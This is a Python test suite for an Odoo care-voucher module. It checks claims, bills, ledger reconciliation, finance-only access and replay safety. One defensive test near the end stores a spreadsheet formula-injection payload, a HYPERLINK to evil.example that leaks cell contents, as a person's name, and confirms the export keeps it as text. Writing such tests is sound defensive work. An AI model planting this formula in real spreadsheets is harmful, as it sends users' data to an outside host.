import base64
import io

import openpyxl
from dateutil.relativedelta import relativedelta

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .common import VoucherCase


@tagged("post_install", "-at_install")
class TestSettlement(VoucherCase):
    def setUp(self):
        super().setUp()
        self.programme.write({"monthly_cap": 0, "covered_share": 50, "code": "GL-TEST"})
        self.entitlement = self.entitle()
        self.programme._issue_month(self.this_month)

    def settle(self, kind, **vals):
        wizard = (
            self.env["care.voucher.settle"]
            .with_user(self.finance)
            .create(
                {
                    "period": self.this_month,
                    "kind": kind,
                    # the demo's programmes have services this month too
                    "programme_ids": [(6, 0, self.programme.ids)],
                    **vals,
                }
            )
        )
        action = wizard.action_create()
        return self.env["account.move"].browse(action["domain"][0][2])

    def ledger_total(self, orders):
        lines = self.env["care.voucher.line"].search(
            [("order_id", "in", orders.ids), ("kind", "in", ("redeem", "reverse"))]
        )
        return -sum(lines.mapped("amount"))

    def test_claim_then_bill_tie_to_the_ledger(self):
        done = self.done_order() | self.done_order()
        missing = self.done_order()
        missing.signature = False
        self.env["ir.attachment"].search(
            [("res_model", "=", "fsm.order"), ("res_id", "=", missing.id)]
        ).unlink()  # the photo is gone: this one is deducted at verification
        self.assertEqual(set(done.mapped("care_settlement_state")), {"draft"})
        self.assertEqual(done.mapped("care_voucher_period"), [self.this_month] * 2)

        with self.assertRaisesRegex(UserError, "Nothing to settle"):
            self.settle("bill")  # nothing claimed yet
        [claim] = self.settle("claim")
        self.assertEqual(missing.care_settlement_state, "deducted")
        self.assertEqual(missing.care_voucher_state, "reversed")
        self.assertEqual(set(done.mapped("care_settlement_state")), {"claimed"})
        self.assertEqual(claim.move_type, "out_invoice")
        self.assertEqual(claim.partner_id, self.bureau)
        self.assertEqual(len(claim.invoice_line_ids), 2)
        self.assertEqual(claim.invoice_line_ids.care_order_id, done)
        # to the cent: the claim is what the ledger redeemed for these services
        self.assertAlmostEqual(claim.amount_total, 70.0)
        self.assertAlmostEqual(claim.amount_total, self.ledger_total(done), places=2)
        self.assertEqual(self.ledger_total(missing), 0.0, "deducted: given back")
        # the service records go with the claim
        [sheet] = self.env["ir.attachment"].search(
            [("res_model", "=", "account.move"), ("res_id", "=", claim.id)]
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(sheet.datas)))
        rows = list(book.active.iter_rows(values_only=True))
        self.assertEqual(len(rows), 3)
        header = rows[0]
        paid = header.index("Paid by voucher")
        self.assertAlmostEqual(sum(row[paid] for row in rows[1:]), claim.amount_total)
        with self.assertRaisesRegex(UserError, "Nothing to claim"):
            self.settle("claim")  # claimed once

        [bill] = self.settle("bill")
        self.assertEqual(bill.move_type, "in_invoice")
        self.assertEqual(bill.partner_id, self.good.partner_id)
        self.assertAlmostEqual(bill.amount_total, claim.amount_total)
        self.assertEqual(set(done.mapped("care_settlement_state")), {"settled"})
        self.assertEqual(done.care_bill_move_id, bill)

    def test_a_claimed_service_is_not_disputed_silently(self):
        order = self.done_order()
        self.settle("claim")
        with self.assertRaisesRegex(UserError, "credit note"):
            order.with_user(self.finance).action_care_voucher_dispute()
        self.assertEqual(order.care_voucher_state, "redeemed")

    def test_only_finance_settles(self):
        order = self.done_order()
        with self.assertRaises(AccessError):
            self.env["care.voucher.settle"].with_user(self.agent).create(
                {"period": self.this_month}
            )
        with self.assertRaisesRegex(UserError, "Only finance"):
            order.with_user(self.agent).action_care_settlement_verify()
        self.assertEqual(order.care_settlement_state, "draft")
        # finance bills and invoices in Invoicing
        self.assertTrue(self.finance.has_group("account.group_account_invoice"))

    def test_reconciliation_report_and_statement(self):
        done = self.done_order()  # 35 by voucher, 35 co-paid
        deducted = self.done_order()  # 35 by voucher, deducted at verification
        deducted.signature = False
        self.env["ir.attachment"].search(
            [("res_model", "=", "fsm.order"), ("res_id", "=", deducted.id)]
        ).unlink()
        Report = self.env["care.voucher.report"].with_user(self.finance)
        measures = [
            "issued",
            "redeemed",
            "expired",
            "reversed",
            "adjusted",
            "outstanding",
            "copay",
            "deducted",
        ]
        self.settle("claim")  # verifies: the second is deducted
        [row] = Report.read_group(
            [("programme_id", "=", self.programme.id)],
            [f"{m}:sum" for m in measures],
            [],
        )
        figures = {m: row[m] for m in measures}
        ledger = sum(
            self.env["care.voucher.line"]
            .search([("programme_id", "=", self.programme.id)])
            .mapped("amount")
        )
        self.assertEqual(
            figures,
            {
                "issued": 100.0,
                "redeemed": 70.0,  # 35 + 35
                "expired": 0.0,
                "reversed": 35.0,  # the deducted one given back
                "adjusted": 0.0,
                "outstanding": 65.0,
                "copay": 35.0,
                "deducted": 35.0,
            },
        )
        self.assertEqual(figures["outstanding"], ledger)
        self.assertEqual(done.care_copay_amount, 35.0)
        by_category = Report.read_group(
            [("programme_id", "=", self.programme.id), ("issued", ">", 0)],
            ["issued:sum"],
            ["subsidy_category_id"],
        )
        self.assertEqual(by_category[0]["subsidy_category_id"][0], self.age_80.id)

        wizard = (
            self.env["care.voucher.settle"]
            .with_user(self.finance)
            .create(
                {
                    "period": self.this_month,
                    "programme_ids": [(6, 0, self.programme.ids)],
                }
            )
        )
        [statement] = wizard._statement()
        self.assertEqual(statement["total"]["redeemed"], 70.0)
        self.assertEqual(statement["total"]["reversed"], 35.0)
        html = (
            self.env["ir.actions.report"]
            ._render_qweb_html("care_vouchers.report_voucher_statement", wizard.ids)[0]
            .decode()
        )
        self.assertIn(self.programme.name, html)
        self.assertIn(self.bureau.name, html)
        pdf, kind = (
            self.env["ir.actions.report"]
            .with_context(force_report_rendering=True)
            ._render_qweb_pdf("care_vouchers.report_voucher_statement", wizard.ids)
        )
        self.assertEqual(kind, "pdf")
        self.assertTrue(pdf.startswith(b"%PDF"))

    def test_reconciliation_identity_with_every_kind(self):
        """issued − redeemed − expired + reversed + adjusted = outstanding, on
        every row and every total, with every kind of line on the ledger."""
        self.done_order()  # redeem 35
        self.done_order().action_cancel()  # redeem 35, reversed
        Adjust = self.env["care.voucher.adjust"].with_user(self.finance)
        for amount in (50, -20):
            Adjust.create(
                {"entitlement_id": self.entitlement.id, "amount": amount, "reason": "x"}
            ).action_post()
        self.programme._close_month(self.this_month)  # expires the 95 left
        card = (
            self.env["care.voucher.card"]
            .with_user(self.finance)
            .create(
                {
                    "issuer_id": self.bureau.id,
                    "elder_id": self.elder.id,
                    "value": 30,
                    "date_expiry": self.this_month + relativedelta(years=1),
                }
            )
        )
        card.action_activate()
        card.action_cancel()  # issue 30, expire 30
        kinds = set(
            self.env["care.voucher.line"]
            .search(
                [
                    "|",
                    ("programme_id", "=", self.programme.id),
                    ("card_id", "=", card.id),
                ]
            )
            .mapped("kind")
        )
        self.assertEqual(kinds, {"issue", "redeem", "expire", "reverse", "adjust"})

        Report = self.env["care.voucher.report"].with_user(self.finance)
        domain = [
            "|",
            ("programme_id", "=", self.programme.id),
            ("card_id", "=", card.id),
        ]
        rows = Report.search(domain)
        self.assertEqual(
            len(rows),
            self.env["care.voucher.line"].search_count(
                [
                    "|",
                    ("programme_id", "=", self.programme.id),
                    ("card_id", "=", card.id),
                ]
            ),
        )

        def identity(row):
            return (
                row["issued"]
                - row["redeemed"]
                - row["expired"]
                + row["reversed"]
                + row["adjusted"]
            )

        for row in rows.read(
            ["issued", "redeemed", "expired", "reversed", "adjusted", "outstanding"]
        ):
            self.assertAlmostEqual(identity(row), row["outstanding"])
        measures = [
            "issued",
            "redeemed",
            "expired",
            "reversed",
            "adjusted",
            "outstanding",
        ]
        [total] = Report.read_group(domain, [f"{m}:sum" for m in measures], [])
        self.assertEqual(
            {m: total[m] for m in measures},
            {
                "issued": 130.0,  # 100 + the card's 30
                "redeemed": 70.0,
                "expired": 125.0,  # 95 at month end + the card's 30
                "reversed": 35.0,
                "adjusted": 30.0,
                "outstanding": 0.0,
            },
        )
        for group in Report.read_group(
            domain, [f"{m}:sum" for m in measures], ["programme_id", "period:month"]
        ):
            self.assertAlmostEqual(identity(group), group["outstanding"])
        wizard = (
            self.env["care.voucher.settle"]
            .with_user(self.finance)
            .create(
                {
                    "period": self.this_month,
                    "programme_ids": [(6, 0, self.programme.ids)],
                }
            )
        )
        [statement] = wizard._statement()
        self.assertAlmostEqual(
            identity(statement["total"]), statement["total"]["outstanding"]
        )
        self.assertEqual(statement["total"]["adjusted"], 30.0)

    def test_claims_and_bills_come_from_the_ledger(self):
        """A forged amount on an order (the field is refused to clients; here
        written as the system) changes neither the claim nor the bill."""
        done = self.done_order() | self.done_order()
        done[0].sudo().write({"care_voucher_amount": 999.0})
        [claim] = self.settle("claim")
        self.assertAlmostEqual(claim.amount_total, 70.0)
        self.assertAlmostEqual(claim.amount_total, self.ledger_total(done), places=2)
        [bill] = self.settle("bill")
        self.assertAlmostEqual(bill.amount_total, 70.0)
        # the sheet attached to the claim says what the ledger paid too
        [sheet] = self.env["ir.attachment"].search(
            [("res_model", "=", "account.move"), ("res_id", "=", claim.id)]
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(sheet.datas)))
        rows = list(book.active.iter_rows(values_only=True))
        paid = rows[0].index("Paid by voucher")
        self.assertEqual(sorted(row[paid] for row in rows[1:]), [35.0, 35.0])

    def test_settle_month_replayed_posts_nothing_twice(self):
        self.done_order()
        Settle = self.env["care.voucher.settle"].with_user(self.finance)
        claims = Settle.settle_month(self.this_month, "claim", self.programme.ids)
        self.assertEqual(len(claims), 1)
        self.assertEqual(
            Settle.settle_month(self.this_month, "claim", self.programme.ids), []
        )
        bills = Settle.settle_month(self.this_month, "bill", self.programme.ids)
        self.assertEqual(len(bills), 1)
        self.assertEqual(
            Settle.settle_month(self.this_month, "bill", self.programme.ids), []
        )
        with self.assertRaisesRegex(AccessError, "Only finance"):
            Settle.with_user(self.agent).settle_month(self.this_month, "claim")
        with self.assertRaisesRegex(UserError, "Say what to settle"):
            Settle.settle_month(self.this_month, "everything")
        self.assertFalse(Settle.search([("kind", "=", "everything")]))

    def test_claim_sheet_writes_text_not_formulas(self):
        """A name starting with "=" stays text in the bureau's spreadsheet."""
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
        self.elder.name = evil
        self.programme.name = "=1+1"
        self.done_order()
        [claim] = self.settle("claim")
        [sheet] = self.env["ir.attachment"].search(
            [("res_model", "=", "account.move"), ("res_id", "=", claim.id)]
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(sheet.datas)))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        values = {cell.value for cell in cells}
        self.assertIn(evil, values)
        self.assertIn("=1+1", values)
